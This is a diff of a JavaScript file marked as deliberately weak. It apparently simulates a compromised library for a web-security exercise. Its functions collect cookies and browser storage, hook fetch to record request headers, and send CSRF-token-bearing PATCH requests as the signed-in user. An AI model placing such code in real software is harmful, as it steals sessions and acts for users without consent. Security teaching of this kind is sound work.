@@ -1,7 +1,7 @@
-/* WEAK on purpose: stands for a library that somebody has changed. It comes from this site's own address, so the content
-   security policy lets it in, and from then on it may do whatever the page may. */
+/* WEAK on purpose: plays a library with malicious code. The content security policy allows it because this site serves
+   it. From then on it can do everything that the page can do. */
 
-/** Everything that lies where scripts can read: {cookies, localStorage, sessionStorage}, each [[name, value], ...]. */
+/** Return all that scripts can read: {cookies, localStorage, sessionStorage}, each [[name, value], ...]. */
 export function loot() {
   const cookies = document.cookie.split("; ").filter(Boolean).map((pair) => {
     const at = pair.indexOf("=");
@@ -10,23 +10,24 @@ export function loot() {
   return { cookies, localStorage: Object.entries(localStorage), sessionStorage: Object.entries(sessionStorage) };
 }
 
-/** Listens in on what the page sends from now on, wherever the page keeps it. Returns what ends it: a list of the headers. */
+/** Record the headers of the page's requests. Returns a function that stops recording and returns the headers. */
 export function listen() {
   const { fetch } = window;
-  const heard = [];
+  const headers = [];
   window.fetch = (resource, options = {}) => {
-    heard.push(...Object.entries(options.headers ?? {}));
+    headers.push(...Object.entries(options.headers ?? {}));
     return fetch(resource, options);
   };
   return () => {
     window.fetch = fetch;
-    return heard;
+    return headers;
   };
 }
 
-/** Acts as whoever has the page open: the browser adds its cookies, and the CSRF token is there to be read. */
+/** Send a request as the signed-in user: the browser adds the cookies, and the script reads the CSRF token. */
 export async function act(path, changes, headers) {
-  const token = document.cookie.match(new RegExp(`(?:^|; )${document.documentElement.dataset.csrf}=([^;]*)`))?.[1] ?? "";
+  const cookie = new RegExp(`(?:^|; )${document.documentElement.dataset.csrf}=([^;]*)`);
+  const token = document.cookie.match(cookie)?.[1] ?? "";
   const response = await fetch(path, {
     method: "PATCH",
     headers: { "Content-Type": "application/json", "X-CSRFToken": token, ...headers },
